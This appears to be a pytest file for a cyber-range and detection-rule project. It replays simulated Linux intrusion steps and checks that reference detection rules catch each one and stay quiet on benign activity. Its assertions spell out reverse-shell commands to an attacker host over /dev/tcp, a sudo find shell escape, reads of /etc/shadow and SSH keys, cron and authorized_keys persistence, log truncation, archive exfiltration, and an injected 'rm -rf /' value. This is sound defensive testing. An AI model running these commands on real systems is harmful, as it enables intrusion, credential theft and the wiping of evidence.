"""Linux host techniques (reverse shell, sudo escape, credential access, persistence, log
tampering, staging and exfiltration): the intruder's shell session as tshark reads it, what the
target logs, the same records for a seed and other ones for another team, each reference rule
detecting its step and nothing else beside the nodes' benign activity, and the two scenarios
built on them played offline end to end."""
from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
from collections import Counter, defaultdict
from pathlib import Path

import pytest

from attack_scripts._shellsession import kept_pid
from attack_scripts.credential_access import shadow
from range.core import TeamDir, ValidationErrors
from range.detect import load_rules, run
from range.events import ingest, read_host_log
from range.exercise import TeamSpec, run_offline
from range.scenario import catalog, load_scenario
from range.scoring import Truth, event_in_step, event_key, score
from range.topology import layout
from tests.conftest import ROOT, tshark_fields
from tests.helpers import assert_truth_exact, one_step

RULES = ROOT / "detections" / "rules"
REVERSE_SHELL = "027fed86-c539-4f3f-8b81-34f5f2aacda4"
SUDO_ESCAPE = "128dffb4-bd26-46f1-ac2c-15f0bfb869f5"
SUDO_WWW = "66b57e10-6e43-4997-9ea8-93a11f7d5e08"
CREDENTIALS = "73481648-5ad9-4f08-9533-1cfae7e37d64"
PERSISTENCE = "02374d73-6658-45e3-abb6-e4daca4b0415"
LOG_TAMPERING = "9619d0e1-f5a7-4263-88f5-5f874dee01d6"
STAGE_EXFIL = "8bb12944-93c0-4e2f-9f7b-ace79216181e"
# each technique: its rule file, the rules in it that must detect its step
REFERENCE = {
    "reverse_shell": ("lnx_reverse_shell.yml", {REVERSE_SHELL}),
    "sudo_privesc": ("lnx_sudo_privesc.yml", {SUDO_ESCAPE, SUDO_WWW}),
    "credential_access": ("lnx_credential_access.yml", {CREDENTIALS}),
    "persistence": ("lnx_persistence.yml", {PERSISTENCE}),
    "log_tampering": ("lnx_log_tampering.yml", {LOG_TAMPERING}),
    "stage_exfil": ("lnx_stage_exfil.yml", {STAGE_EXFIL}),
}
CASES = [
    ("reverse_shell", {}),
    ("reverse_shell", {"payload": "nc-mkfifo"}),
    ("reverse_shell", {"payload": "python3-pty", "port": 443}),
    ("sudo_privesc", {}),
    ("sudo_privesc", {"binary": "vim", "payload": "python3-pty"}),
    ("sudo_privesc", {"binary": "tar", "payload": "nc-mkfifo"}),
    ("credential_access", {}),
    ("persistence", {}),
    ("persistence", {"method": "systemd"}),
    ("log_tampering", {"wipe": "shred"}),
    ("stage_exfil", {}),
    ("stage_exfil", {"channel": "curl", "archive": "zip"}),
]
IDS = [f"{t}-{'-'.join(str(v) for v in p.values()) or 'default'}" for t, p in CASES]
BENIGN = {"web": {"rate": 0.3}, "ssh": {"rate": 0.03}, "dns": {"rate": 0.3}, "host": {"rate": 0.5}}


def _replay(tmp: Path, technique: str, params: dict, **kw):
    return one_step(tmp, technique, "attacker", ["web"], params, duration="5m", at=20, **kw)


def _records(out: Path, table: str) -> list[dict]:
    return [r for t, r in read_host_log(TeamDir(out).host_log) if t == table]


def _stream(pcap: Path, port: int) -> tuple[bytes, bytes]:
    """(what the target sent, what the intruder sent) on the connections to ``port``, in order."""
    rows = tshark_fields(pcap, ["tcp.dstport", "tcp.payload"], f"tcp.port == {port} && tcp.len > 0")
    target, intruder = bytearray(), bytearray()
    for dport, payload in rows:
        (target if int(dport) == port else intruder).extend(bytes.fromhex(payload.replace(":", "")))
    return bytes(target), bytes(intruder)


def _hosts(scn):
    return layout(scn.env, "blue", 1).hosts


# ---- what each technique writes ------------------------------------------------------------------

@pytest.mark.parametrize("technique,params", CASES, ids=IDS)
def test_same_seed_same_records_and_packets_another_team_others(tmp_path, technique, params):
    (tmp_path / "one").mkdir()
    (tmp_path / "two").mkdir()
    a, _, out_a = _replay(tmp_path / "one", technique, params)
    b, _, out_b = _replay(tmp_path / "two", technique, params)
    assert a.pcap.read_bytes() == b.pcap.read_bytes()
    assert TeamDir(out_a).host_log.read_bytes() == TeamDir(out_b).host_log.read_bytes()
    c, _, out_c = _replay(tmp_path / "one", technique, params, team="red")
    assert c.pcap.read_bytes() != a.pcap.read_bytes()
    mine = {(t, r.get("CommandLine") or r.get("message") or r.get("TargetFilename") or r.get("DestinationIp"))
            for t, r in read_host_log(TeamDir(out_a).host_log)}
    theirs = {(t, r.get("CommandLine") or r.get("message") or r.get("TargetFilename") or r.get("DestinationIp"))
              for t, r in read_host_log(TeamDir(out_c).host_log)}
    assert mine != theirs
    tables = Counter(t for t, _ in read_host_log(TeamDir(out_a).host_log))
    assert tables["process_creation"] >= 4 and tables["auditd"] >= 20 and tables["network_connection"] >= 1
    assert_truth_exact(out_a)
    step = json.loads((out_a / "truth.json").read_text())["steps"][0]
    assert step["host_records"] == sum(tables.values())
    assert {(e["host"], e["table"]) for e in step["host"]} >= {("web", "process_creation"), ("web", "auditd"),
                                                              ("web", "network_connection")}


def test_reverse_shell_from_php_with_its_prompt_and_commands(tmp_path):
    res, scn, out = _replay(tmp_path, "reverse_shell", {})
    hosts = _hosts(scn)
    web, atk = hosts["web"].ip, hosts["attacker"].ip
    conns = tshark_fields(res.pcap, ["ip.src", "ip.dst", "tcp.dstport"], "tcp.flags.syn == 1 && tcp.flags.ack == 0")
    assert conns == [[web, atk, "4444"]], "the web server opens the one connection, to the listener"
    said, typed = _stream(res.pcap, 4444)
    text = said.decode()
    assert text.startswith("bash: cannot set terminal process group (")
    assert "bash: no job control in this shell\nwww-data@portal:/var/www/html/uploads$ " in text
    assert typed.decode().split("\n")[:-1] == ["id", "hostname", "uname -a", "ls -la", "cat ../config.php",
                                               "ls -la /home", "ss -tlnp", "exit"]
    assert "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n" in text and "$db_pass = '" in text
    procs = _records(out, "process_creation")
    launch = procs[0]
    assert launch["ParentImage"] == "/usr/sbin/php-fpm8.2" and launch["User"] == "www-data"
    assert launch["CommandLine"] == f"sh -c bash -c 'bash -i >& /dev/tcp/{atk}/4444 0>&1'"
    shell = next(p for p in procs if p["CommandLine"] == "bash -i")
    assert shell["ProcessId"] == kept_pid(layout(scn.env, "blue", 1), "web", "www-data")
    kids = [p["CommandLine"] for p in procs if p["ParentProcessId"] == shell["ProcessId"]]
    assert kids == ["id", "hostname", "uname -a", "ls -la", "cat ../config.php", "ls -la /home", "ss -tlnp"]
    (nc,) = _records(out, "network_connection")
    sport = int(tshark_fields(res.pcap, ["tcp.srcport"], "tcp.flags.syn == 1 && tcp.flags.ack == 0")[0][0])
    assert (nc["ProcessId"], nc["Initiated"], nc["SourceIp"], nc["SourcePort"], nc["DestinationIp"],
            nc["DestinationPort"]) == (shell["ProcessId"], "true", web, sport, atk, 4444)


def test_reverse_shell_payloads(tmp_path):
    res, scn, out = _replay(tmp_path, "reverse_shell", {"payload": "nc-mkfifo"}, name="fifo")
    said, _ = _stream(res.pcap, 4444)
    assert said.startswith(b"/bin/sh: 0: can't access tty; job control turned off\n$ ")
    images = [p["Image"] for p in _records(out, "process_creation")[:6]]
    assert images == ["/usr/bin/dash", "/usr/bin/rm", "/usr/bin/mkfifo", "/usr/bin/cat", "/usr/bin/dash",
                      "/usr/bin/nc.openbsd"]
    assert _records(out, "network_connection")[0]["Image"] == "/usr/bin/nc.openbsd"
    assert [f["TargetFilename"] for f in _records(out, "file_event")] == ["/tmp/f"]
    res, scn, out = _replay(tmp_path, "reverse_shell", {"payload": "python3-pty", "commands": ["id"]}, name="pty")
    said, typed = _stream(res.pcap, 4444)
    assert typed == b"id\nexit\n"
    assert said.startswith(b"\x1b[?2004hwww-data@portal:/var/www/html/uploads$ id\r\n\x1b[?2004l\ruid=33(www-data)")
    py = _records(out, "process_creation")[1]
    assert py["Image"] == "/usr/bin/python3.11" and "pty.spawn(\"/bin/bash\")" in py["CommandLine"]
    assert _records(out, "network_connection")[0]["ProcessId"] == py["ProcessId"]


def test_sudo_escape_syslog_and_root_shell(tmp_path):
    res, scn, out = _replay(tmp_path, "sudo_privesc", {"binary": "find"})
    said, typed = _stream(res.pcap, 4444)
    assert "(root) NOPASSWD: /usr/bin/find" in said.decode()
    assert typed.decode().split("\n")[:3] == ["sudo -l", "sudo find . -exec /bin/sh \\; -quit", "id"]
    assert "uid=0(root) gid=0(root) groups=0(root)\n" in said.decode()
    lines = [r["message"] for r in _records(out, "syslog") if r["program"] == "sudo"]
    assert lines[0] == "www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=list"
    assert lines[1] == ("www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; "
                        "COMMAND=/usr/bin/find . -exec /bin/sh ; -quit")
    assert lines[2].startswith("pam_unix(sudo:session): session opened for user root(uid=0) by www-data")
    assert lines[3] == "pam_unix(sudo:session): session closed for user root"
    procs = _records(out, "process_creation")
    root_sh = next(p for p in procs if p["ParentImage"] == "/usr/bin/find")
    assert (root_sh["Image"], root_sh["User"]) == ("/usr/bin/dash", "root")
    assert root_sh["ProcessId"] == kept_pid(layout(scn.env, "blue", 1), "web", "root")
    assert [p["CommandLine"] for p in procs if p["ParentProcessId"] == root_sh["ProcessId"]] == ["id", "ls -la /root"]
    closed = next(r for r in _records(out, "syslog") if r["message"].endswith("closed for user root"))
    assert closed["ts"] > max(p["ts"] for p in procs)  # sudo's session ends with the root shell


def test_credentials_read_and_the_key_copied(tmp_path):
    res, scn, out = _replay(tmp_path, "credential_access", {})
    said, typed = _stream(res.pcap, 4444)
    text = said.decode()
    assert shadow(layout(scn.env, "blue", 1), "web") in text.replace("\r\n", "\n")
    assert "root:$y$j9T$" in text and "-----BEGIN OPENSSH PRIVATE KEY-----" in text
    assert "mysql -u portal_app -p'" in text
    lines = [p["CommandLine"] for p in _records(out, "process_creation")][2:]
    assert lines[0] == "cat /etc/shadow" and lines[1].startswith("cat /home/") and "*" not in lines[1]
    assert lines[2] == "find / -name id_rsa" and lines[4].endswith(" /tmp/.k")
    assert all(p["User"] == "root" for p in _records(out, "process_creation"))
    assert [(f["Image"], f["TargetFilename"]) for f in _records(out, "file_event")] == [("/usr/bin/cp", "/tmp/.k")]
    assert b"cat /home/*/.bash_history\n" in typed


def test_persistence_files_and_lines(tmp_path):
    res, scn, out = _replay(tmp_path, "persistence", {})
    atk = _hosts(scn)["attacker"].ip
    said, typed = _stream(res.pcap, 4444)
    files = [(f["Image"], f["TargetFilename"]) for f in _records(out, "file_event")]
    unit = next(name for _, name in files if name.endswith(".service") and "wants" not in name)
    wants = "/etc/systemd/system/multi-user.target.wants/" + unit.rsplit("/")[-1]
    assert files == [("/usr/bin/crontab", "/var/spool/cron/crontabs/root"), ("/usr/bin/bash", unit),
                     ("/usr/lib/systemd/systemd", wants), ("/usr/bin/bash", "/root/.ssh/authorized_keys")]
    assert f"*/10 * * * * /bin/bash -c 'bash -i >& /dev/tcp/{atk}/4444 0>&1'\n" in said.decode()
    assert "Created symlink /etc/systemd/system/multi-user.target.wants/" in said.decode()
    assert b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5" in typed and b" kali@kali' >> /root/.ssh/authorized_keys" in typed
    syslog = {(r["program"], r["message"]) for r in _records(out, "syslog")}
    assert ("crontab", "(root) REPLACE (root)") in syslog and ("systemd", "Reloading.") in syslog


def test_log_tampering_builtins_leave_no_process(tmp_path):
    res, scn, out = _replay(tmp_path, "log_tampering", {})
    _, typed = _stream(res.pcap, 4444)
    assert typed.startswith(b"unset HISTFILE\nhistory -c\ntruncate -s 0 /var/log/auth.log\n")
    lines = [p["CommandLine"] for p in _records(out, "process_creation")][2:]
    assert lines[:3] == ["truncate -s 0 /var/log/auth.log", "truncate -s 0 /var/log/nginx/access.log",
                         "truncate -s 0 /var/log/nginx/error.log"]
    assert lines[3] == "ln -sf /dev/null /root/.bash_history"
    assert lines[4].startswith("touch -r /etc/hostname /var/spool/cron/crontabs/root /etc/systemd/system/")
    assert not any("history" == line.split()[0] or "unset" == line.split()[0] for line in lines)


def test_staged_archive_is_real_in_the_capture(tmp_path):
    res, scn, out = _replay(tmp_path, "stage_exfil", {})
    web, atk = _hosts(scn)["web"].ip, _hosts(scn)["attacker"].ip
    data, back = _stream(res.pcap, 443)
    assert back == b""
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(data))) as tar:
        names = tar.getnames()
        config = tar.extractfile("var/www/html/config.php").read().decode()
    assert "etc/shadow" in names and any(n.startswith("home/") and n.endswith("/.ssh/id_rsa") for n in names)
    assert "$db_pass = '" in config
    said, _ = _stream(res.pcap, 4444)
    assert f"root root {len(data)} " in said.decode(), "ls -la shows the archive's size"
    conns = {(c["Image"], c["DestinationPort"]) for c in _records(out, "network_connection")}
    assert conns == {("/usr/bin/bash", 4444), ("/usr/bin/nc.openbsd", 443)}
    tar_proc = next(p for p in _records(out, "process_creation") if p["Image"] == "/usr/bin/tar")
    assert tar_proc["CommandLine"].startswith("tar czf /tmp/.x.tgz /var/www/html /etc/nginx ")
    assert [f["TargetFilename"] for f in _records(out, "file_event")] == ["/tmp/.x.tgz"]
    flows = json.loads((out / "truth.json").read_text())["steps"][0]["flows"]
    assert flows == [{"src": web, "dst": atk, "proto": "tcp"}]

    res, scn, out = _replay(tmp_path, "stage_exfil", {"channel": "curl", "archive": "zip"}, name="curl")
    posts = tshark_fields(res.pcap, ["http.request.uri", "http.user_agent",
                                     "mime_multipart.header.content-disposition"], "http.request.method == POST")
    assert [[f.replace(" ", "") for f in row] for row in posts] == [
        ["/upload", "curl/7.88.1", 'form-data;name="file";filename=".x.zip"']]
    body, _ = _stream(res.pcap, 8000)
    start = body.index(b"PK\x03\x04")
    with zipfile.ZipFile(io.BytesIO(body[start:body.rindex(b"\r\n--")])) as z:
        assert "etc/passwd" in z.namelist()


@pytest.mark.parametrize("technique,params,needle", [
    ("reverse_shell", {"shell": "bash"}, "shell"),
    ("reverse_shell", {"commands": ["id", "exit"]}, "ends with exit"),
    ("sudo_privesc", {"binary": "less"}, "binary"),
    ("persistence", {"method": ["cron", "cron"]}, "once"),
    ("persistence", {"method": "at"}, "method"),
    ("log_tampering", {"logs": ["auth.log"]}, "absolute path"),
    ("stage_exfil", {"paths": ["/etc; rm -rf /"]}, "absolute path"),
    ("credential_access", {"port": 0}, "port"),
])
def test_bad_params(tmp_path, technique, params, needle):
    with pytest.raises(ValidationErrors) as e:
        _replay(tmp_path, technique, params)
    assert needle in str(e.value)


# ---- the reference rules ---------------------------------------------------------------------------

@pytest.mark.parametrize("technique,params", CASES, ids=IDS)
def test_reference_rule_detects_its_step_and_nothing_else(tmp_path, technique, params):
    rule_file, expected = REFERENCE[technique]
    res, _, out = one_step(tmp_path, technique, "attacker", ["web"], params, benign=BENIGN, duration="8m", at=120)
    ingest(res.pcap, out / "events.db", host_log=res.host_log)
    rules = load_rules([RULES / rule_file])
    assert rules.errors == [] and rules.warnings == []
    alerts, errors = run(rules, out / "events.db")
    assert errors == []
    s = score(res.truth, alerts)
    (step,) = s["steps"]
    assert step["detected"] and expected <= set(step["rules"]), (step["rules"], [a["rule_title"] for a in alerts])
    assert s["false_positives"] == 0 and s["precision"] == 1.0
    truth = res.truth.steps[0]
    assert all(event_in_step(event_key(ev), truth) for a in alerts for ev in a["events"])


@pytest.mark.parametrize("env", ["gov-office", "dmz-lan"])
def test_the_new_rules_stay_quiet_on_benign_activity(tmp_path, env):
    """Every node's cron jobs, logrotate, tar backups, apt, admins' sudo and developers' shells,
    admins' SSH sessions and PHP's mail(), for longer and denser than the scenarios have them."""
    res, _, out = one_step(tmp_path, "syn_scan", "attacker", ["web"], {"ports": "80"}, env=env,
                           benign={"host": {"rate": 1.5}, "ssh": {"rate": 0.05}, "web": {"rate": 0.5}},
                           duration="20m", at=30, seed=9, team="quiet")
    ingest(res.pcap, out / "events.db", host_log=res.host_log)
    programs = Counter(r["Image"].rsplit("/", 1)[-1] for r in _records(out, "process_creation"))
    assert programs["tar"] and programs["sudo"] and programs["logrotate"] and programs["find"]
    rules = load_rules([RULES / f for f, _ in REFERENCE.values()])
    alerts, errors = run(rules, out / "events.db")
    assert errors == [] and alerts == [], sorted({a["rule_title"] for a in alerts})


# ---- the scenarios -----------------------------------------------------------------------------------

SCENARIOS = {
    "portal-takeover": {"revshell": "reverse_shell", "privesc": "sudo_privesc", "creds": "credential_access",
                        "persist": "persistence", "cleanup": "log_tampering", "exfil": "stage_exfil"},
    "dmz-foothold": {"revshell": "reverse_shell", "privesc": "sudo_privesc", "persist": "persistence",
                     "creds": "credential_access", "exfil": "stage_exfil", "cleanup": "log_tampering"},
}


@pytest.fixture(scope="module", params=sorted(SCENARIOS))
def exercise(request, tmp_path_factory):
    name = request.param
    out = tmp_path_factory.mktemp(name)
    scn = load_scenario(catalog().path_of("scenario", name))
    run_offline(scn, [TeamSpec("albania", [RULES])], out, seed=2)
    return name, scn, out / "albania"


def test_scenario_every_step_detected_without_a_false_positive(exercise):
    name, scn, d = exercise
    s = json.loads((d / "score.json").read_text())
    assert json.loads((d / "alerts.json").read_text())["errors"] == []
    assert [st["id"] for st in s["steps"] if not st["detected"]] == []
    assert s["false_positives"] == 0 and s["recall"] == 1.0 and s["precision"] == 1.0
    rules = {st["id"]: set(st["rules"]) for st in s["steps"]}
    for step, technique in SCENARIOS[name].items():
        assert REFERENCE[technique][1] <= rules[step], (step, rules[step])


def test_scenario_each_host_rule_detects_only_its_step(exercise):
    name, scn, d = exercise
    truth = Truth.read(d / "truth.json")
    hit: dict[str, set[str]] = defaultdict(set)
    for a in json.loads((d / "alerts.json").read_text())["alerts"]:
        for ev in a["events"]:
            hit[a["rule_id"]] |= {st.id for st in truth.steps if event_in_step(event_key(ev), st)}
    for step, technique in SCENARIOS[name].items():
        for rule in REFERENCE[technique][1]:
            assert hit[rule] == {step}, (rule, hit[rule])


def test_scenario_host_records_belong_to_their_steps(exercise):
    name, scn, d = exercise
    truth = Truth.read(d / "truth.json")
    records = read_host_log(TeamDir(d).host_log)
    owned: Counter = Counter()
    for table, rec in records:
        owners = [st.id for st in truth.steps if event_in_step(event_key({**rec, "_path": table}), st)]
        assert len(owners) <= 1, (table, rec, owners)
        owned.update(owners)
    steps = {st.id: st for st in truth.steps}
    for step in SCENARIOS[name]:
        assert steps[step].host_records > 0 and owned[step] == steps[step].host_records
        assert {(e["host"], e["table"]) for e in steps[step].host} >= {("web", "process_creation"),
                                                                      ("web", "network_connection")}
        assert steps[step].flows and all(f["proto"] == "tcp" for f in steps[step].flows)
    # the later root callbacks name the escalation's root shell as their parent
    lay = layout(scn.env, "albania", json.loads((d / "truth.json").read_text())["seed"])
    root_sh = kept_pid(lay, "web", "root")
    escaped = [r for t, r in records if t == "process_creation" and r.get("ProcessId") == root_sh]
    assert len(escaped) == 1 and event_in_step(event_key({**escaped[0], "_path": "process_creation"}),
                                               steps["privesc"])
    callbacks = [r for t, r in records if t == "process_creation" and r.get("ParentProcessId") == root_sh
                 and r["CommandLine"].startswith("bash -c bash -i >& /dev/tcp/")]
    assert len(callbacks) == 4
